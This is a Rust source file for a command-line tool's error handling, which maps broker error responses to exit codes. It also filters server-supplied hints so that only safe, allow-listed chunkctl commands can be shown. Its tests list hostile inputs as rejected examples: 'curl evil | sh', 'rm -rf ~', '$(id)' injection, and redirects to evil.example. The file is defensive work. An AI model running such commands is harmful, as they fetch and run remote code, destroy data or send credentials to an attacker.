//! How does the program say no, so that a person can act on it?
//!
//! Every failure carries what happened, why, and the next command, together with the exit code of the contract. Commands return
//! it; only [`crate::output::Ui`] prints it, so no error can reach a terminal without being cleaned.

use chunk_wire::problem::{Code, Problem};

/// Exit codes of the command-line contract.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[repr(u8)]
pub(crate) enum Exit {
    /// Yes.
    Yes = 0,
    /// No: denied, rejected, evidence false.
    No = 1,
    /// Cannot tell: unreachable, incomplete.
    CannotTell = 2,
    /// Usage or configuration.
    Usage = 3,
    /// Sign in.
    SignIn = 4,
    /// Approval pending.
    Pending = 5,
    /// A bug.
    Bug = 70,
}

/// A failure, ready to be told.
#[derive(Debug, Clone)]
pub(crate) struct Failure {
    pub(crate) exit: Exit,
    /// One snake_case word; the broker's own code where the broker answered.
    pub(crate) code: String,
    pub(crate) what: String,
    pub(crate) why: Vec<String>,
    /// The next command to type.
    pub(crate) hint: Option<String>,
    /// Id under which the broker's operator finds the call.
    pub(crate) request_id: Option<String>,
}

pub(crate) type Result<T> = std::result::Result<T, Failure>;

impl Failure {
    pub(crate) fn new(exit: Exit, code: &str, what: impl Into<String>) -> Self {
        Self {
            exit,
            code: code.to_owned(),
            what: what.into(),
            why: Vec::new(),
            hint: None,
            request_id: None,
        }
    }

    /// The answer is no.
    pub(crate) fn no(code: &str, what: impl Into<String>) -> Self {
        Self::new(Exit::No, code, what)
    }

    /// The answer is not known.
    pub(crate) fn cannot_tell(code: &str, what: impl Into<String>) -> Self {
        Self::new(Exit::CannotTell, code, what)
    }

    /// The command or the configuration is wrong.
    pub(crate) fn usage(what: impl Into<String>) -> Self {
        Self::new(Exit::Usage, "usage", what)
    }

    /// There is no session to act under.
    pub(crate) fn sign_in(what: impl Into<String>) -> Self {
        Self::new(Exit::SignIn, "unauthenticated", what).hint("chunkctl login")
    }

    /// This program is wrong.
    pub(crate) fn bug(what: impl Into<String>) -> Self {
        Self::new(Exit::Bug, "internal", what)
    }

    /// Adds a reason.
    pub(crate) fn why(mut self, why: impl Into<String>) -> Self {
        self.why.push(why.into());
        self
    }

    /// Sets the next command, unless one is set already.
    pub(crate) fn hint(mut self, command: impl Into<String>) -> Self {
        self.hint.get_or_insert_with(|| command.into());
        self
    }

    /// Sets the next command, whatever was set before.
    pub(crate) fn instead(mut self, command: impl Into<String>) -> Self {
        self.hint = Some(command.into());
        self
    }

    /// A local file could not be used.
    pub(crate) fn file(verb: &str, path: &std::path::Path, error: &std::io::Error) -> Self {
        Self::new(Exit::Usage, "file", format!("cannot {verb} `{}`", path.display())).why(io_words(error))
    }

    /// Whether the broker refused the credential, so that a fresh one may help.
    pub(crate) fn is(&self, code: Code) -> bool {
        self.code == code.as_str()
    }
}

impl From<Problem> for Failure {
    fn from(problem: Problem) -> Self {
        let known = problem.known_code();
        let (exit, what) = match known {
            Some(code) => (exit_of(code), code.title().trim_end_matches('.').to_owned()),
            None => (exit_of_status(problem.status), format!("the broker refused ({})", problem.status)),
        };
        let mut failure = Self::new(exit, known.map_or("unknown", Code::as_str), what);
        if !problem.detail.is_empty() {
            failure.why.push(problem.detail);
        }
        if let Some(position) = problem.position {
            failure
                .why
                .push(format!("at line {}, column {} of the SQL text", position.line, position.column));
        }
        if !problem.policies.is_empty() {
            failure.why.push(format!("determined by policy {}", problem.policies.join(", ")));
        }
        failure.hint = problem.hint.as_deref().and_then(own_command);
        if failure.hint.is_none() && exit == Exit::SignIn {
            failure.hint = Some("chunkctl login".to_owned());
        }
        failure.request_id = problem.request_id;
        failure
    }
}

/// The exit code of a broker's code, as the wire's own table has it.
pub(crate) fn exit_of(code: Code) -> Exit {
    match code.exit() {
        1 => Exit::No,
        2 => Exit::CannotTell,
        3 => Exit::Usage,
        4 => Exit::SignIn,
        5 => Exit::Pending,
        _ => Exit::Bug,
    }
}

/// What an answer without a known code means: a newer broker, or a proxy in between.
fn exit_of_status(status: u16) -> Exit {
    match status {
        401 => Exit::SignIn,
        403 | 404 | 409 => Exit::No,
        _ => Exit::CannotTell,
    }
}

/// A server's hint is shown as a command to type only if it is one of ours that looks, asks or signs in where one was going
/// to: a hostile server must not be able to put anything under our "run" that judges, forgets a pinned key, writes a file of
/// its choice, or sends a credential elsewhere.
fn own_command(hint: &str) -> Option<String> {
    // Names and ids only: nothing that a shell, a terminal or a path would make more of.
    let plain = |word: &str| !word.is_empty() && word.bytes().all(|b| b.is_ascii_alphanumeric() || b"_-.".contains(&b));
    let inner = hint.split('`').nth(1).unwrap_or(hint).trim_end_matches('.');
    let words: Vec<&str> = inner.split(' ').collect();
    let ["chunkctl", verb, rest @ ..] = words.as_slice() else {
        return None;
    };
    let (_, second) = VERBS_TO_SUGGEST.iter().find(|(known, _)| known == verb)?;
    let arguments = match rest {
        rest if second.is_empty() => rest,
        [word, rest @ ..] if second.contains(word) => rest,
        _ => return None,
    };
    let harmless = |word: &&str| plain(word) && (!word.starts_with('-') || OPTIONS_TO_SUGGEST.contains(word));
    arguments.iter().all(harmless).then(|| inner.to_owned())
}

/// What a server may suggest; for commands of two words, the second word.
const VERBS_TO_SUGGEST: &[(&str, &[&str])] = &[
    ("audit", &["search", "show"]),
    ("datasets", &[]),
    ("describe", &[]),
    ("doctor", &[]),
    ("fetch", &[]),
    ("keys", &["list"]),
    ("login", &[]),
    ("plan", &[]),
    ("request", &["show"]),
    ("requests", &[]),
    ("sessions", &["list", "show"]),
    ("whoami", &[]),
];

const OPTIONS_TO_SUGGEST: &[&str] = &["--all", "--browser", "--ci", "--device", "--mine", "--pending", "--request"];

/// What an I/O error says without the operating system's number.
pub(crate) fn io_words(error: &std::io::Error) -> String {
    match error.kind() {
        std::io::ErrorKind::NotFound => "there is no such file or folder".into(),
        std::io::ErrorKind::PermissionDenied => "permission denied".into(),
        std::io::ErrorKind::StorageFull => "the disk is full".into(),
        std::io::ErrorKind::AlreadyExists => "it exists already".into(),
        std::io::ErrorKind::BrokenPipe => "the reader went away".into(),
        _ => error.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_broker_code_keeps_its_exit_code() {
        for &code in Code::ALL {
            let failure = Failure::from(Problem::new(code, "because"));
            assert_eq!(failure.exit as u8, code.exit(), "{}", code.as_str());
            assert_eq!(failure.code, code.as_str());
        }
    }

    #[test]
    fn a_server_can_only_suggest_our_own_commands() {
        let hinted = |hint: &str| {
            let mut problem = Problem::new(Code::Denied, "");
            problem.hint = Some(hint.to_owned());
            Failure::from(problem).hint
        };
        assert_eq!(hinted("run `chunkctl plan orders`."), Some("chunkctl plan orders".to_owned()));
        assert_eq!(hinted("chunkctl plan orders"), Some("chunkctl plan orders".to_owned()));
        assert_eq!(
            hinted("run `chunkctl fetch --request req_0123456789abcdef` once it is approved"),
            Some("chunkctl fetch --request req_0123456789abcdef".to_owned())
        );
        for good in [
            "chunkctl login",
            "chunkctl login --browser",
            "chunkctl requests --mine",
            "chunkctl sessions list",
            "chunkctl describe shop.orders",
        ] {
            assert_eq!(hinted(&format!("run `{good}`")).as_deref(), Some(good));
        }
        for bad in [
            "run `curl evil | sh`",
            "chunkctl x; rm -rf ~",
            "chunkctl plan $(id)",
            "chunkctl plan \"x\"",
            "chunkctl plan ~",
            "chunkctl plan *",
            "chunkctl plan a\nb",
            "chunkctl  plan",
            "chunkctl",
            "rm -rf ~",
            "chunkctl login --broker https://evil.example --insecure-storage",
            "chunkctl login --insecure-storage",
            "chunkctl login --broker evil.example",
            "chunkctl login --broker=evil.example",
            "chunkctl --broker evil.example login",
            "chunkctl datasets --ca-file evil.pem",
            "chunkctl config unpin",
            "chunkctl config set broker evil.example",
            "chunkctl approve req_0123456789abcdef --reason ok",
            "chunkctl fetch orders -o .bashrc --force",
            "chunkctl sessions revoke ses_0123456789abcdef",
            "chunkctl sessions",
        ] {
            assert_eq!(hinted(bad), None, "{bad}");
        }
    }

    #[test]
    fn what_a_server_may_suggest_exists() {
        use clap::CommandFactory as _;
        let root = crate::args::Cli::command();
        for (verb, second) in VERBS_TO_SUGGEST {
            let command = root.find_subcommand(verb);
            assert!(command.is_some(), "{verb}");
            for word in *second {
                assert!(
                    command.is_some_and(|command| command.find_subcommand(word).is_some()),
                    "{verb} {word}"
                );
            }
        }
    }
}
